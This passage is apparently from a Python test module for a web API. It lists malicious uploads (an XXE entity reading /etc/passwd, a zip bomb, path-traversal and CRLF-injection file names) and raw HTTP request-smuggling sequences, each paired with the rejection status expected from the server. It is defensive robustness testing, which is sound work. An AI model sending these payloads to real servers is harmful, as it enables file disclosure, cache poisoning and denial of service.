    ("long.csv", b"name,price\n" + b"a" * 2_000_000 + b",1\n"),
    ("price.csv", b"name,price\na,1e400\n"),
    ("nan.csv", b"name,price\na,NaN\n"),
    ("digits.csv", b"name,price\na," + b"9" * 5_000 + b"\n"),
    ("arabic.csv", "name,price\na,١\n".encode()),
    ("infinity.csv", b"name,price\na,Infinity\n"),
    ("owner.csv", b"name,price,password_hash\na,1,x\n"),
    ("zip.csv", _zip_bomb()),
    ("gzip.csv", b"\x1f\x8b\x08" + b"\x00" * 100),
    ("pdf.csv", b"%PDF-1.7\n"),
    ("html.csv", b"<!doctype html><script>alert(1)</script>"),
    ("xml.csv", b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>"),
    ("broken.json", b"[{"),
    ("null.json", b"null"),
    ("number.json", b"1e400"),
    ("rows.json", b"[1, null, [], true]"),
    ("nan.json", b'[{"name": "a", "price": NaN}]'),
    ("huge.json", b'[{"name": "a", "price": 1e999999999}]'),
    ("digits.json", b'[{"name": "a", "price": ' + b"9" * 5_000 + b"}]"),
    ("twice.json", b'[{"name": "a", "name": "b", "price": 1}]'),
    ("nul.json", b'[{"name": "\\u0000", "price": 1}]'),
    ("surrogate.json", b'[{"name": "\\ud800", "price": 1}]'),
    ("foreign.json", b'[{"name": "a", "price": 1, "is_admin": true}]'),
    ("deep.json", b'[{"name": ' + b"[" * 5_000 + b"]" * 5_000 + b"}]"),
    ("deeper.json", b"[" * 200_000),
    ("trailing.json", b'[{"name": "", "price": 1}] []'),
    ("broken.jsonl", b'{"name": "a"\n'),
    ("array.jsonl", b"[]\n[]\n"),
    ("deep.jsonl", b'{"name": ' + b'{"a":' * 5_000 + b"1" + b"}" * 5_000 + b"}\n"),
    ("nul.jsonl", b"\x00\n"),
    ("pickle.jsonl", b"\x80\x04\x95."),
)

# Names of files, as they stand in the header of a part.
FILE_NAMES = (
    "../../../../etc/passwd.csv",
    "..\\\\..\\\\x.csv",
    "/etc/passwd.csv",
    "C:\\\\x.csv",
    "a" * 5_000 + ".csv",
    ".csv",
    "a%0d%0aX-Injected: 1.csv",
    "<script>.csv",
    "a;b=c.csv",
    "\xe2\x80\xaegnirts.csv",
    "\xf0\x9f\x98\x80.csv",
    "=1+1.csv",
    " .csv",
    "CON.csv",
    "a\x01.csv",
)


def upload_named(name: str) -> tuple[str, bytes]:
    """Return media type and body of an upload whose file has this name."""
    return _FORM, _form((_KIND, b"items"), (_FILE.replace("items.csv", name), b"name,price\n"))


# --- bytes on a connection ----------------------------------------------------------

_POST = b"POST /api/v1/tasks HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer %s\r\nContent-Type: application/json\r\n"
_GET = b"GET /api/v1/welcome HTTP/1.1\r\n"
_LAST = b"GET /api/v1/health HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"
_SMUGGLED = b"POST /api/v1/tasks HTTP/1.1\r\nHost: x\r\n\r\n"
_CHUNKED = _POST + b"Transfer-Encoding: chunked\r\n\r\n"

# What is sent, the place of a token marked, and the statuses of all answers until the connection is closed.
CONVERSATIONS: tuple[tuple[bytes, tuple[int, ...]], ...] = (
    (_GET + b"Host: x\r\n\r\n" + _LAST, (200, 200)),
    # Two lengths, of which another reader might take the other.
    (_POST + b"Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + _SMUGGLED + _LAST, (400,)),
    (_POST + b"Transfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n0\r\n\r\n" + _SMUGGLED + _LAST, (400,)),
    (_POST + b"Content-Length: 2\r\nContent-Length: 3\r\n\r\n{} " + _LAST, (400,)),
    (_POST + b"Content-Length: 2, 2\r\n\r\n{}" + _LAST, (400,)),
    (_POST + b"Content-Length: +2\r\n\r\n{}" + _LAST, (400,)),
    (_POST + b"Content-Length: -2\r\n\r\n{}" + _LAST, (400,)),
    (_POST + b"Content-Length: 0x2\r\n\r\n{}" + _LAST, (400,)),
    (_POST + b"Content-Length: 2_0\r\n\r\n{}" + _LAST, (400,)),
    (_POST + b"Content-Length:\r\n\r\n{}" + _LAST, (400,)),
    (_POST + b"Content-Length: \xb2\r\n\r\n{}" + _LAST, (400,)),
    (_POST + b"Content-Length: 9999999999999999999999\r\n\r\n{}" + _LAST, (413,)),
    (_POST + b"Content_Length: 2\r\n\r\n" + _LAST, (400, 200)),
    (_POST + b"Transfer-Encoding: chunked, chunked\r\n\r\n0\r\n\r\n" + _LAST, (400,)),
    (_POST + b"Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + _LAST, (400,)),
    (_POST + b"Transfer-Encoding: chunked,\r\n\r\n0\r\n\r\n" + _LAST, (400,)),
    # Waitress takes these for no coding at all, and another reader perhaps not.
    (_POST + b"Transfer-Encoding:\r\nContent-Length: 2\r\n\r\n{}" + _LAST, (400,)),
    (_POST + b"transfer-encoding: ,\r\nContent-Length: 2\r\n\r\n{}" + _LAST, (400,)),
    (_POST + b"Transfer-Encoding: CHUNKED\t\r\n\r\n0\r\n\r\n" + _LAST, (400, 200)),
    (_POST + b"Transfer-Encoding: gzip, chunked\r\n\r\n0\r\n\r\n" + _LAST, (501,)),
    (_POST + b"Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n" + _LAST, (501,)),
    (_POST + b"Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n" + _LAST, (501,)),
    (_POST + b"Transfer-Encoding: \x0bchunked\r\n\r\n0\r\n\r\n" + _LAST, (400,)),
    (_POST + b"Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n" + _LAST, (400,)),
    (_POST + b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n" + _LAST, (501,)),
    (
        _POST.replace(b"1.1", b"1.0")
        + b"Connection: keep-alive\r\nTransfer-Encoding: chunked\r\n\r\n2\r\n{}\r\n"
        + _LAST,
        (400,),
    ),
    # Whoever has sent the body already is not told to send it (RFC 9110, section 10.1.1).
    (_POST + b"Expect: 100-continue\r\nContent-Length: 2\r\n\r\n{}" + _LAST, (422, 200)),
    (_POST + b"Expect: 100-continue\r\n\r\n" + _LAST, (400, 200)),
    # Chunks that are none.
    (_CHUNKED + b"zz\r\n{}\r\n0\r\n\r\n" + _LAST, (400,)),
    (_CHUNKED + b"-2\r\n{}\r\n0\r\n\r\n" + _LAST, (400,)),
    (_CHUNKED + b"+2\r\n{}\r\n0\r\n\r\n" + _LAST, (400,)),
    (_CHUNKED + b"0x2\r\n{}\r\n0\r\n\r\n" + _LAST, (400,)),
    (_CHUNKED + b"2_\r\n{}\r\n0\r\n\r\n" + _LAST, (400,)),
    (_CHUNKED + b"\r\n{}\r\n0\r\n\r\n" + _LAST, (400,)),
    (_CHUNKED + b"2\r\n{}xx\r\n0\r\n\r\n" + _LAST, (400,)),
    (_CHUNKED + b"2;a=\x00\r\n{}\r\n0\r\n\r\n" + _LAST, (400,)),
    (_CHUNKED + b"ffffffffffffffff\r\n{}\r\n0\r\n\r\n", ()),
    (_CHUNKED + b"2\r\n{}\r\n0\r\n\r\n" + _LAST, (422, 200)),
    (_CHUNKED + b"2;name=value\r\n{}\r\n0\r\nX-Trailer: 1\r\n\r\n" + _LAST, (422, 200)),
    (_CHUNKED + b"1\r\n{", ()),
    # Headers that two readers could read in two ways.
    (_GET + b"Host : x\r\n\r\n" + _LAST, (400,)),
    (_GET + b"Host: x\r\n folded\r\n\r\n" + _LAST, (400, 200)),
    (_GET + b" Host: x\r\n\r\n" + _LAST, (400,)),
    (_GET + b"Host: x\nX-Injected: 1\r\n\r\n" + _LAST, (400,)),
    (_GET + b"Host: x\r\nX: a\x00b\r\n\r\n" + _LAST, (400,)),
    (_GET + b"Host: x\r\nX\x00: a\r\n\r\n" + _LAST, (400,)),
    (_GET + b"Host: x\r\nno colon\r\n\r\n" + _LAST, (400,)),
    (_GET + b"Host: x\r\n: no name\r\n\r\n" + _LAST, (400,)),
    (_GET + b"Host: x\r\n\xe4: a\r\n\r\n" + _LAST, (400,)),
    (_GET + b"Host: x\r\nHost: y\r\n\r\n" + _LAST, (400, 200)),
    (_GET + b"\r\n" + _LAST, (400,)),
    (_GET + b"Host: x\r\n" + b"X: y\r\n" * 10_000 + b"\r\n", (431,)),
    (_GET + b"Host: x\r\nX: " + b"a" * 100_000 + b"\r\n\r\n", (431,)),
    (_GET + b"Host: x\r\nExpect: 100-continue\r\nContent-Length: 0\r\n\r\n" + _LAST, (200, 200)),
    # Request lines.
    (b"GET http://evil.example/api/v1/welcome HTTP/1.1\r\nHost: x\r\n\r\n" + _LAST, (200, 200)),
    (b"GET  /api/v1/welcome HTTP/1.1\r\nHost: x\r\n\r\n" + _LAST, (400,)),
    (b"GET /api/v1/greet/a b HTTP/1.1\r\nHost: x\r\n\r\n" + _LAST, (400,)),
    (b"GET\t/api/v1/welcome\tHTTP/1.1\r\nHost: x\r\n\r\n" + _LAST, (400,)),
    (b"GET /api/v1/welcome HTTP/9.9\r\nHost: x\r\n\r\n" + _LAST, (200,)),
    (b"GET /api/v1/welcome HTTP/1.1 HTTP/1.1\r\nHost: x\r\n\r\n" + _LAST, (400,)),
    (b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", (404,)),
    (b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\r\n\r\n", (400,)),
    (b"GET /" + b"a" * 100_000 + b" HTTP/1.1\r\nHost: x\r\n\r\n", (431,)),
    (b"GET /api/v1/greet/\xff\xfe HTTP/1.1\r\nHost: x\r\n\r\n" + _LAST, (400,)),
    (b"GET /api/v1/greet/a#b HTTP/1.1\r\nHost: x\r\n\r\n" + _LAST, (200, 200)),
    (b"OPTIONS * HTTP/1.1\r\nHost: x\r\n\r\n" + _LAST, (404, 200)),
    (b"CONNECT evil.example:443 HTTP/1.1\r\nHost: x\r\n\r\n" + _LAST, (404, 200)),
    (b"\r\n\r\n" + _LAST, (200,)),
)
